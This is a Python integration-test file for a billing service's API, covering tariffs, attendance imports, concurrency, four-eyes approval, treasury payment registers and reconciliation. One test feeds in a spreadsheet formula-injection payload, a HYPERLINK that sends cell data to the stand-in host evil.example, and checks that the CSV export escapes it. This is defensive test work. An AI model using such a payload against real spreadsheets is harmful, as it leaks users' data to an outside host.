"""Billing's HTTP API: validation, attendance files, concurrency, four eyes, the treasury."""

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import asyncpg
import httpx
import pytest_asyncio
from billing_world import (
    APPROVER,
    TREASURY,
    attend,
    bank_details,
    enroll,
    feed,
    invoice_of,
    license_fields,
    licensed_provider,
    new_bin,
    new_iin,
    run,
    tariff,
)
from harness import (
    ADMIN,
    RunningService,
    probe_liveness,
    processes,
    reset_service,
    running_service,
    settings_for,
    spawn_service,
    test_dsn,
    wait_ready,
)
from ssu_billing.domain import Month
from ssu_billing.main import build
from ssu_billing.settings import Settings
from ssu_contracts import LicenseIssuedV1

EAST = {"Authorization": "Bearer ssu-dev-east-kz"}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def svc() -> AsyncIterator[RunningService]:
    await reset_service("billing")
    async with running_service(build(settings_for(Settings, "billing"))) as running:  # type: ignore[arg-type]
        yield running


async def test_a_rate_outside_the_national_limits_is_refused(svc: RunningService) -> None:
    body = {
        "region": "310000000",
        "form": "stationary",
        "category": "*",
        "effective_from": "2040-01-01",
        "rate": "60000.01",
        "unit": "day",
        "act_reference": "decree 1",
    }
    r = await svc.client.put("/v1/tariffs", headers=ADMIN, json=body)
    assert r.status_code == 422
    assert r.json()["errors"] == [
        {
            "field": "rate",
            "message": "rate 60000.01 is outside the national limits 1000..60000"
            " for stationary per day",
        }
    ]
    r = await svc.client.put("/v1/tariffs", headers=ADMIN, json={**body, "rate": "60000.00"})
    assert r.status_code == 201
    r = await svc.client.put("/v1/tariffs", headers=ADMIN, json={**body, "rate": "59000.00"})
    assert (r.status_code, r.json()["rate"]) == (200, "59000.00")
    r = await svc.client.get(
        "/v1/tariffs", headers=ADMIN, params={"region": "310000000", "year": 2040}
    )
    assert [(t["form"], t["category"], t["rate"], t["unit"]) for t in r.json()["items"]] == [
        ("stationary", "*", "59000.00", "day")
    ]
    r = await svc.client.put("/v1/tariffs", headers=ADMIN, json={**body, "category": "cats"})
    assert r.status_code == 422
    assert r.json()["errors"][0]["field"].startswith("category")


async def test_attendance_rows_are_checked_one_by_one(svc: RunningService) -> None:
    region, year = "330000000", 2025
    bin_, lic, _ = await licensed_provider(svc, region=region, year=year)
    iin = new_iin()
    e = await enroll(svc, bin_, lic, date(year, 1, 10), region=region, iin=iin)
    r = await svc.client.post(
        "/v1/attendance",
        headers=ADMIN,
        json={
            "provider_bin": bin_,
            "month": f"{year}-01",
            "enrollments": [
                {
                    "enrollment_id": e,
                    "dates": [f"{year}-01-10", f"{year}-02-01", f"{year}-01-10", f"{year}-01-05"],
                },
                {"enrollment_id": "nope", "dates": [f"{year}-01-11"]},
                {"iin": iin, "dates": [f"{year}-01-12"]},
            ],
        },
    )
    assert r.status_code == 200, r.text
    assert r.json() == {
        "accepted": 2,
        "already_recorded": [],
        "rejected": [
            {
                "field": "enrollments.0.dates.1",
                "reason": f"date is outside the month {year}-01",
                "value": f"{year}-02-01",
            },
            {
                "field": "enrollments.0.dates.2",
                "reason": "duplicate of enrollments.0.dates.0",
                "value": f"{year}-01-10",
            },
            {
                "field": "enrollments.0.dates.3",
                "reason": "date is outside the enrollment",
                "value": f"{year}-01-05",
            },
            {
                "field": "enrollments.1.dates.0",
                "reason": "unknown enrollment of this provider",
                "value": f"{year}-01-11",
            },
        ],
    }
    csv_text = (
        "iin,provider_bin,date\n"
        f"{iin},{bin_},{year}-01-12\n"
        f"{iin},{bin_},{year}-01-13\n"
        f"{iin},{bin_},{year}-01-3x\n"
        f"{new_iin()},{bin_},{year}-01-14\n"
        f"{iin},{bin_},{year}-01-15\n"
    )
    r = await svc.client.post(
        "/v1/attendance/import",
        headers={**ADMIN, "Content-Type": "text/csv"},
        params={"month": f"{year}-01"},
        content=csv_text.encode(),
    )
    assert r.status_code == 200, r.text
    assert r.json() == {
        "accepted": 2,
        "already_recorded_count": 1,
        "already_recorded": [2],
        "rejected_count": 2,
        "rejected": [
            {
                "line": 4,
                "field": "date",
                "reason": "not a date (YYYY-MM-DD)",
                "value": f"{year}-01-3x",
            },
            {
                "line": 5,
                "field": "date",
                "reason": "no enrollment of this IIN at this provider on this date",
                "value": f"{year}-01-14",
            },
        ],
    }
    days = await svc.pool.fetch(
        "SELECT day FROM attendance WHERE enrollment_id = $1 ORDER BY day", e
    )
    assert [d["day"].day for d in days] == [10, 12, 13, 15]


async def test_two_concurrent_runs_of_one_period_issue_one_invoice(svc: RunningService) -> None:
    region, year = "350000000", 2025
    bin_, lic, _ = await licensed_provider(svc, region=region, year=year)
    await tariff(
        svc,
        region=region,
        form="stationary",
        rate="7000.00",
        unit="day",
        effective_from=date(year, 1, 1),
    )
    e = await enroll(svc, bin_, lic, date(year, 1, 1), region=region)
    await attend(svc, bin_, f"{year}-01", {e: [1, 2]})
    await attend(svc, bin_, f"{year}-02", {e: [1]})

    # while the worker is busy (a test connection holds the runs' lock), the run waits queued
    # and a second request of the month answers that run again
    body = {"period": f"{year}-01", "region": region}
    holder = await asyncpg.connect(test_dsn("billing"))
    try:
        await holder.execute("SELECT pg_advisory_lock(hashtextextended('ssu.billing.runs', 0))")
        r = await svc.client.post("/v1/runs", headers=ADMIN, json=body)
        assert r.status_code == 202, r.text
        queued = r.json()
        assert r.headers["location"] == f"/v1/runs/{queued['id']}"
        assert (queued["status"], queued["phase"], queued["started_at"]) == ("queued", None, None)
        assert queued["repeated"] is False
        r = await svc.client.post("/v1/runs", headers=ADMIN, json=body)
        assert r.status_code == 200
        assert (r.json()["id"], r.json()["repeated"], r.json()["status"]) == (
            queued["id"],
            True,
            "queued",
        )
        assert r.headers["location"] == f"/v1/runs/{queued['id']}"
    finally:
        await holder.close()
    done = await run(svc, f"{year}-01", 200, region=region)
    assert (done["id"], done["total"], done["phase"]) == (queued["id"], "14000.00", "done")

    # two requests at once: one is accepted, the other answers the same run
    first, second = await asyncio.gather(
        svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-02", "region": region}),
        svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-02", "region": region}),
    )
    assert sorted([first.status_code, second.status_code]) == [200, 202]
    assert first.json()["id"] == second.json()["id"]
    runs = await svc.pool.fetchval(
        "SELECT count(*) FROM runs WHERE period = $1 AND region = $2", f"{year}-02", region
    )
    assert runs == 1
    await run(svc, f"{year}-02", 200, region=region)
    invoice = await invoice_of(svc, bin_, f"{year}-01")
    assert invoice["total"] == "14000.00"
    assert (await invoice_of(svc, bin_, f"{year}-02"))["total"] == "7000.00"


async def test_four_eyes_payment_register_and_reconciliation(svc: RunningService) -> None:
    region, year = "390000000", 2025
    a_bin, a_lic, a_contract = await licensed_provider(svc, region=region, year=year)
    b_bin, b_lic, b_contract = await licensed_provider(svc, region=region, year=year)
    await tariff(
        svc,
        region=region,
        form="stationary",
        rate="3000.00",
        unit="day",
        effective_from=date(year, 1, 1),
    )
    a = await enroll(svc, a_bin, a_lic, date(year, 1, 1), region=region)
    b = await enroll(svc, b_bin, b_lic, date(year, 1, 1), region=region)
    await attend(svc, a_bin, f"{year}-01", {a: [4, 5, 6]})
    await attend(svc, b_bin, f"{year}-01", {b: [4, 5, 6, 7, 8]})
    started = await run(svc, f"{year}-01", region=region)
    register_url = f"/v1/payment-registers/{region}/{year}-01.csv"
    header = (
        "invoice_number,contract_number,provider_bin,provider_name,region,period,amount,"
        "approved_by,iik,bik,kbk,knp,invoice_total,paid_before,placement\n"
    )

    def control(count: int, total: str) -> str:
        return f"control_total,{count},,,{region},{year}-01,{total},,,,,,,,\n"

    r = await svc.client.get(register_url, headers=TREASURY)
    assert (r.status_code, r.text) == (200, header + control(0, "0.00"))  # nothing approved yet

    r = await svc.client.post(f"/v1/runs/{started['id']}/approve", headers=ADMIN)
    assert r.status_code == 403
    assert r.json()["detail"] == (
        "four eyes: the client that started the run cannot approve its invoices"
    )
    assert r.json()["type"] == "/problems/run-four-eyes"
    r = await svc.client.post(f"/v1/runs/{started['id']}/approve", headers=EAST)
    assert r.status_code == 403  # no billing:approve scope
    r = await svc.client.post(f"/v1/runs/{started['id']}/approve", headers=APPROVER)
    assert r.status_code == 200
    assert (r.json()["status"], r.json()["approved_by"]) == ("approved", "dev-approver")

    r = await svc.client.get(register_url, headers=APPROVER)
    assert r.status_code == 403  # the register is the treasury's: billing:treasury
    inv_a, inv_b = f"{a_contract}/{year}-01", f"{b_contract}/{year}-01"
    bank_a, bank_b = (",".join(bank_details(b).values()) for b in (a_bin, b_bin))
    r = await svc.client.get(register_url, headers=TREASURY)
    rows = sorted(
        [
            f"{inv_a},{a_contract},{a_bin},Центр {a_bin},{region},{year}-01,9000.00,dev-approver,"
            f"{bank_a},9000.00,0.00,1",
            f"{inv_b},{b_contract},{b_bin},Центр {b_bin},{region},{year}-01,15000.00,"
            f"dev-approver,{bank_b},15000.00,0.00,1",
        ]
    )
    assert r.text == header + "\n".join(rows) + "\n" + control(2, "24000.00")

    result = (
        "invoice_number,amount_paid,status,date\n"
        f"{inv_a},9000.00,paid,{year}-02-10\n"
        f"{inv_b},14000.00,paid,{year}-02-10\n"
        f"X-404/{year}-01,500.00,paid,{year}-02-10\n"
        f"{inv_a},9000.00,paid,{year}-02-10\n"
    )
    url = f"/v1/payment-registers/{region}/{year}-01/reconciliation"
    r = await svc.client.post(
        url, headers={**TREASURY, "Content-Type": "text/csv"}, content=result.encode()
    )
    assert r.status_code == 200, r.text
    assert r.json() == {
        "applied": [
            {
                "invoice_number": inv_a,
                "status": "paid",
                "amount_paid": "9000.00",
                "paid_to_date": "9000.00",
                "invoice_total": "9000.00",
            },
            {
                "invoice_number": inv_b,
                "status": "partially_paid",
                "amount_paid": "14000.00",
                "paid_to_date": "14000.00",
                "invoice_total": "15000.00",
            },
        ],
        "discrepancies": [
            {
                "line": 3,
                "invoice_number": inv_b,
                "invoice_total": "15000.00",
                "amount_paid": "14000.00",
                "reason": "paid 14000.00 of 15000.00: short by 1000.00",
            },
        ],
        "errors": [
            {
                "line": 4,
                "field": "invoice_number",
                "reason": f"unknown invoice for {region} {year}-01",
                "value": f"X-404/{year}-01",
            },
            {"line": 5, "field": "invoice_number", "reason": "duplicate of line 2", "value": inv_a},
        ],
    }
    assert (await invoice_of(svc, a_bin, f"{year}-01"))["status"] == "paid"
    b_invoice = await invoice_of(svc, b_bin, f"{year}-01")
    assert (b_invoice["status"], b_invoice["paid_amount"]) == ("partially_paid", "14000.00")
    recorded_by = await svc.pool.fetch(
        "SELECT DISTINCT recorded_by FROM reconciliations WHERE invoice_number = ANY($1)",
        [inv_a, inv_b],
    )
    assert [r["recorded_by"] for r in recorded_by] == ["dev-treasury"]

    # the register now holds what is still due: the rest of b
    r = await svc.client.get(register_url, headers=TREASURY)
    assert r.text == header + (
        f"{inv_b},{b_contract},{b_bin},Центр {b_bin},{region},{year}-01,1000.00,dev-approver,"
        f"{bank_b},15000.00,14000.00,1\n"
    ) + control(1, "1000.00")

    # the same file again: every row was recorded already
    r = await svc.client.post(
        url, headers={**TREASURY, "Content-Type": "text/csv"}, content=result.encode()
    )
    assert r.json()["applied"] == []
    assert [e["reason"] for e in r.json()["errors"]] == [
        "duplicate: this payment is already recorded",
        "duplicate: this payment is already recorded",
        f"unknown invoice for {region} {year}-01",
        "duplicate of line 2",
    ]


async def test_a_regional_key_sees_only_its_region(svc: RunningService) -> None:
    year = 2026  # the one national run of this module; the other tests bill 2025 by region
    east, east_lic, _ = await licensed_provider(svc, region="630000000", year=year)
    west, west_lic, _ = await licensed_provider(svc, region="270000000", year=year)
    await tariff(
        svc,
        region="630000000",
        form="stationary",
        rate="2000.00",
        unit="day",
        effective_from=date(year, 1, 1),
    )
    await tariff(
        svc,
        region="270000000",
        form="stationary",
        rate="2000.00",
        unit="day",
        effective_from=date(year, 1, 1),
    )
    await enroll(svc, east, east_lic, date(year, 1, 1), region="630000000")
    await enroll(svc, west, west_lic, date(year, 1, 1), region="270000000")
    national = await run(svc, f"{year}-01")
    assert (national["region"], national["invoices"]) == (None, 2)
    r = await svc.client.get("/v1/invoices", headers=EAST, params={"period": f"{year}-01"})
    assert [i["provider_bin"] for i in r.json()["items"]] == [east]
    west_invoice = await invoice_of(svc, west, f"{year}-01")
    r = await svc.client.get(f"/v1/invoices/{west_invoice['id']}", headers=EAST)
    assert r.status_code == 404
    r = await svc.client.get(f"/v1/payment-registers/270000000/{year}-01.csv", headers=EAST)
    assert r.status_code == 403  # not a treasury key (a regional one sees its region's only)
    r = await svc.client.post("/v1/runs", headers=EAST, json={"period": f"{year}-02"})
    assert r.status_code == 403
    r = await svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-13"})
    assert r.status_code == 422
    assert r.json()["errors"][0]["field"] == "period"


async def test_metrics_show_run_durations_and_invoices_by_status(svc: RunningService) -> None:
    region, year = "430000000", 2025
    bin_, lic, _ = await licensed_provider(svc, region=region, year=year)
    await enroll(svc, bin_, lic, date(year, 1, 1), region=region)
    await run(svc, f"{year}-01", region=region)
    r = await svc.client.get("/metrics")
    assert r.status_code == 200
    assert (
        f'ssu_billing_run_duration_seconds{{period="{year}-01",region="{region}",service="billing"}}'
        in r.text
    )
    assert 'ssu_billing_invoices{service="billing",status="issued"}' in r.text


async def test_dates_after_today_in_almaty_are_refused(svc: RunningService) -> None:
    region = "470000000"
    today = datetime.now(ZoneInfo("Asia/Almaty")).date()
    tomorrow, next_month = today + timedelta(days=1), Month(today.replace(day=1)).next()
    bin_, lic, _ = await licensed_provider(svc, region=region, year=today.year)
    iin = new_iin()
    e = await enroll(svc, bin_, lic, today.replace(day=1), region=region, iin=iin)

    r = await svc.client.post(
        "/v1/attendance",
        headers=ADMIN,
        json={
            "provider_bin": bin_,
            "month": f"{tomorrow:%Y-%m}",
            "enrollments": [
                {"enrollment_id": e, "dates": [today.isoformat(), tomorrow.isoformat()]}
            ],
        },
    )
    assert r.status_code == 422
    assert r.headers["content-type"] == "application/problem+json"
    message = f"is after today ({today.isoformat()}, Asia/Almaty)"
    assert r.json()["errors"] == [{"field": "enrollments.0.dates.1", "message": message}]
    assert (
        await svc.pool.fetchval("SELECT count(*) FROM attendance WHERE enrollment_id = $1", e) == 0
    )

    r = await svc.client.post(
        "/v1/attendance/import",
        headers={**ADMIN, "Content-Type": "text/csv"},
        content=f"iin,provider_bin,date\n{iin},{bin_},{today}\n{iin},{bin_},{tomorrow}\n".encode(),
    )
    assert r.status_code == 200, r.text
    assert (r.json()["accepted"], r.json()["rejected"]) == (
        1,
        [{"line": 3, "field": "date", "reason": f"date {message}", "value": str(tomorrow)}],
    )

    r = await svc.client.post(
        "/v1/runs", headers=ADMIN, json={"period": next_month.label, "region": region}
    )
    assert r.status_code == 422
    assert r.json()["errors"] == [
        {
            "field": "period",
            "message": f"{next_month.label} has not begun (today is {today}):"
            " a month is billed once it has ended",
        }
    ]
    # nor the month of today, which has not ended
    this_month = Month(today.replace(day=1)).label
    r = await svc.client.post(
        "/v1/runs", headers=ADMIN, json={"period": this_month, "region": region}
    )
    assert r.status_code == 422
    assert r.json()["errors"] == [
        {
            "field": "period",
            "message": f"{this_month} has not ended (today is {today}):"
            " a month is billed once it has ended",
        }
    ]
    assert (
        await svc.pool.fetchval("SELECT count(*) FROM runs WHERE period = $1", next_month.label)
        == 0
    )


async def test_a_national_run_bills_what_regional_runs_have_not(svc: RunningService) -> None:
    # 2026-01 was billed nationally (test_a_regional_key_sees_only_its_region): 2026-02 is next
    period, year = "2026-02", 2026
    regions = ("550000000", "590000000")
    (a_bin, a_lic, _), (b_bin, b_lic, _) = [
        await licensed_provider(svc, region=r, year=year) for r in regions
    ]
    for r in regions:
        await tariff(
            svc,
            region=r,
            form="stationary",
            rate="1000.00",
            unit="day",
            effective_from=date(year, 1, 1),
        )
    a = await enroll(svc, a_bin, a_lic, date(year, 2, 1), region=regions[0])
    b = await enroll(svc, b_bin, b_lic, date(year, 2, 1), region=regions[1])
    await attend(svc, a_bin, period, {a: [4, 5]})
    await attend(svc, b_bin, period, {b: [4, 5, 6]})

    regional = await run(svc, period, region=regions[0])
    assert (regional["region"], regional["invoices"], regional["total"]) == (
        regions[0],
        1,
        "2000.00",
    )
    national = await run(svc, period)
    assert national["region"] is None
    a_invoice, b_invoice = (
        await invoice_of(svc, a_bin, period),
        await invoice_of(svc, b_bin, period),
    )
    # region a keeps the invoice of its own run; the national run billed region b
    assert (a_invoice["run_id"], a_invoice["total"]) == (regional["id"], "2000.00")
    assert (b_invoice["run_id"], b_invoice["total"]) == (national["id"], "3000.00")

    again = await run(svc, period, expect=200, region=regions[0])
    assert (again["id"], again["repeated"]) == (regional["id"], True)
    r = await svc.client.post(
        "/v1/runs", headers=ADMIN, json={"period": period, "region": regions[1]}
    )
    assert r.status_code == 409
    assert r.json()["detail"] == (
        f"{period} was billed by a national run, which covered region {regions[1]}"
    )
    assert r.json()["type"] == "/problems/month-billed-nationally"
    r = await svc.client.post(
        "/v1/runs",
        headers={**ADMIN, "Accept-Language": "kk"},
        json={"period": period, "region": regions[1]},
    )
    assert (r.json()["title"], r.json()["detail"]) == (
        "Ұлттық есептеумен есептелген",
        f"{period} ұлттық есептеумен есептелді, ол {regions[1]} өңірін де қамтыды",
    )


async def test_the_payment_register_escapes_cells_a_spreadsheet_would_run(
    svc: RunningService,
) -> None:
    region, year = "610000000", 2025
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Оплатить")'
    bin_ = new_bin()
    number = f"LIC-{bin_}"
    fields = license_fields(bin_, number, seq=1, status="active", effective=date(year, 1, 1))
    await feed(svc, LicenseIssuedV1(**{**fields, "region": region, "provider_name": hostile}))
    contract = "@SUM(1+1)"
    r = await svc.client.post(
        "/v1/contracts",
        headers=ADMIN,
        json={
            "number": contract,
            "provider_bin": bin_,
            "region": region,
            "year": year,
            "budget": "1000000.00",
            "bank_details": bank_details(bin_),
        },
    )
    assert r.status_code == 201, r.text
    await tariff(
        svc,
        region=region,
        form="stationary",
        rate="1500.00",
        unit="day",
        effective_from=date(year, 1, 1),
    )
    e = await enroll(svc, bin_, number, date(year, 3, 1), region=region)
    await attend(svc, bin_, f"{year}-03", {e: [2, 3]})
    started = await run(svc, f"{year}-03", region=region)
    r = await svc.client.post(f"/v1/runs/{started['id']}/approve", headers=APPROVER)
    assert r.status_code == 200

    r = await svc.client.get(f"/v1/payment-registers/{region}/{year}-03.csv", headers=TREASURY)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[1] == [
        f"'{contract}/{year}-03",
        f"'{contract}",
        bin_,
        f"'{hostile}",
        region,
        f"{year}-03",
        "3000.00",
        "dev-approver",
        *bank_details(bin_).values(),
        "3000.00",
        "0.00",
        "1",
    ]
    assert rows[2] == ["control_total", "1", "", "", region, f"{year}-03", "3000.00"] + [""] * 8
    # every cell a spreadsheet would read as a formula is escaped; an amount stays a number
    assert [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


async def test_a_large_attendance_file_of_bad_rows_keeps_the_service_live(
    tmp_path: Path,
) -> None:
    # 400 KB of one-cell rows: 200,000 rows without a date
    text = "iin,provider_bin,date\n" + "x\n" * 200_000
    headers = {**ADMIN, "Content-Type": "text/csv"}
    proc = spawn_service("billing", log_dir=tmp_path, env={"SSU_DELIVERY_LIMIT": "5"})
    maxima: list[float] = []
    with processes(proc):
        await wait_ready(proc)
        async with httpx.AsyncClient(timeout=60) as http, httpx.AsyncClient() as kubelet:
            url = f"{proc.url}/v1/attendance/import"
            r = await http.post(url, content=b"iin,provider_bin,date\nx\n", headers=headers)
            assert r.status_code == 200  # steady state: the route has served once
            # A blocked loop delays every probe by the whole parse on every attempt; a busy
            # machine delays one now and then, so up to three attempts are made.
            for _ in range(3):
                done = asyncio.Event()
                probe = asyncio.create_task(probe_liveness(kubelet, proc.url, done))
                await asyncio.sleep(0.1)
                r = await http.post(url, content=text.encode(), headers=headers)
                done.set()
                latencies = await probe
                assert len(latencies) >= 5
                maxima.append(max(latencies))
                if maxima[-1] < 0.1:
                    break
    print(
        f"attendance import of {len(text)} bytes: liveness max per attempt "
        f"{[round(m * 1000, 1) for m in maxima]} ms; answer {len(r.content)} bytes"
    )
    assert r.status_code == 200
    body = r.json()
    assert (body["accepted"], body["rejected_count"]) == (0, 200_000)
    assert [e["line"] for e in body["rejected"]] == list(range(2, 102))
    assert body["rejected"][0] == {
        "line": 2,
        "field": "date",
        "reason": "not a date (YYYY-MM-DD)",
        "value": "",
    }
    assert len(r.content) < 20_000
    assert min(maxima) < 0.1
